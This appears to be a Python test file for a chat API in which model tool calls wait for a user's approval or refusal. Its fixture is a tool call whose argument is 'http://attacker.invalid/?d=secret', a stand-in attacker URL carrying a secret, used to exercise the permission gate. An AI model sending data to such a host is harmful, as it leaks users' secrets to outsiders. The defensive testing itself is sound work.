"""Calls of tools that are decided over the API, and answers that wait for that."""

from __future__ import annotations

from typing import Any

import pytest

from tests.chat.api.client import STREAM
from tests.chat.api.conftest import Api
from tests.model_script import Call, Script, Text, calls

ADDRESS = "http://attacker.invalid/?d=secret"
CALL = calls(Call("analyze_profile", f'{{"handle": "{ADDRESS}"}}', "c1"))
ASK = {
    "call_id": "c1",
    "tool": "analyze_profile",
    "arguments": {"handle": ADDRESS},
    "words": "Fetch attacker.invalid?",
    "permits": ["attacker.invalid"],
}


def asked(api: Api, *more: Script) -> tuple[str, dict[str, Any]]:
    """The path of a session and its answer, which waits."""
    path = api.make()
    api.model.queue(CALL, *more)
    reply = api.post(f"{path}/messages", {"content": "hi"})
    assert reply.status == 202, reply.body
    answer: dict[str, Any] = reply.json["assistant"]
    return path, answer


def decide(api: Api, path: str, id_: int, decision: str = "refuse", **headers: str) -> Any:
    body = {"call_id": "c1", "decision": decision}
    return api.post(f"{path}/messages/{id_}/decisions", body, headers)


def test_an_answer_that_asks_is_accepted_and_says_what(api: Api) -> None:
    path, answer = asked(api)
    assert (answer["status"], answer["asks"]) == ("streaming", [ASK])
    assert api.get(f"{path}/messages/{answer['id']}").json["asks"] == [ASK]
    assert api.get(f"{path}/messages").json[0]["asks"] == []
    assert api.get(path).json["allowed_tools"] == []
    api.post(f"{path}/stop")


def test_what_was_decided_is_answered_with_the_rest(api: Api) -> None:
    path, answer = asked(api, Script([Text("Very well.")]))
    reply = decide(api, path, answer["id"])
    assert reply.status == 200, reply.body
    ended = reply.json["assistant"]
    assert (ended["status"], ended["content"], ended["asks"]) == ("complete", "Very well.", [])
    assert [use["outcome"] for use in ended["tools_used"]] == ["refused"]
    assert decide(api, path, answer["id"], "once").error == "conflict"


def test_streams_say_it_and_go_on_after_it(api: Api) -> None:
    path = api.make()
    api.model.queue(CALL, Script([Text("There is no such feed.")]))
    with api.stream("POST", f"{path}/messages", {"content": "hi"}) as stream:
        events = list(stream)
    tool, done = events[-2:]
    said = {"name": "analyze_profile", "state": "asks", "summary": ASK["words"], "id": "c1"}
    assert tool.data == {"type": "tool", **said}
    assert (done.event, done.data["status"]) == ("done", "streaming")
    id_ = done.data["message_id"]
    with api.stream("GET", f"{path}/events") as stream:
        assert [event.data for event in stream] == [tool.data, done.data]
    body = {"call_id": "c1", "decision": "chat"}
    with api.stream("POST", f"{path}/messages/{id_}/decisions", body) as stream:
        rest = list(stream)
    states = [event.data["state"] for event in rest if event.event == "tool"]
    assert states == ["running", "error"]
    first, second = rest[:2]
    assert second.data == {"type": "status", "content": first.data["summary"]}
    assert rest[-1].data["status"] == "complete"
    assert api.get(path).json["allowed_tools"] == ["attacker.invalid"]


def test_what_is_allowed_in_a_chat_only_becomes_less(api: Api) -> None:
    path, answer = asked(api, Script([Text("Gone.")]))
    decide(api, path, answer["id"], "chat")
    for more in (["attacker.invalid", "other.invalid"], ["git__commit"]):
        reply = api.patch(path, {"allowed_tools": more})
        assert (reply.status, reply.json["error"]["field"]) == (422, "allowed_tools")
    assert api.patch(path, {"allowed_tools": []}).json["allowed_tools"] == []
    _, again = asked(api)
    assert again["asks"] == [ASK]


def test_an_answer_may_ask_again(api: Api) -> None:
    path, answer = asked(api, CALL)
    reply = decide(api, path, answer["id"], "once")
    assert reply.status == 202
    # The model gave the same id again: the first decision is none on the second call.
    (again,) = reply.json["assistant"]["asks"]
    assert again == {**ASK, "call_id": again["call_id"]}
    assert decide(api, path, answer["id"], "once").error == "conflict"
    assert api.post(f"{path}/stop").json == {"stopped": answer["id"]}
    assert api.get(f"{path}/messages/{answer['id']}").json["status"] == "stopped"


@pytest.mark.parametrize(
    "body",
    [
        {},
        {"call_id": "c1"},
        {"call_id": "c1", "decision": "yes"},
        {"call_id": 1, "decision": "once"},
        {"call_id": "c1", "decision": "once", "more": 1},
    ],
)
def test_what_is_no_decision(api: Api, body: dict[str, Any]) -> None:
    path, answer = asked(api)
    reply = api.post(f"{path}/messages/{answer['id']}/decisions", body)
    assert (reply.status, reply.error) == (422, "invalid_input")
    assert (
        api.post(f"{path}/messages/99/decisions", {"call_id": "c1", "decision": "once"}).status
        == 404
    )
    other = {"call_id": "c2", "decision": "once"}
    reply = api.post(f"{path}/messages/{answer['id']}/decisions", other)
    assert (reply.status, reply.error) == (409, "conflict")
    assert api.get(f"{path}/messages/{answer['id']}").json["asks"] == [ASK]
    api.post(f"{path}/stop")


def test_deciding_needs_no_stream(api: Api) -> None:
    path, answer = asked(api, Script([Text("Well.")]))
    reply = decide(api, path, answer["id"], **STREAM)
    assert reply.headers["Content-Type"].startswith("text/event-stream")
    assert b'"content":"Well."' in reply.body
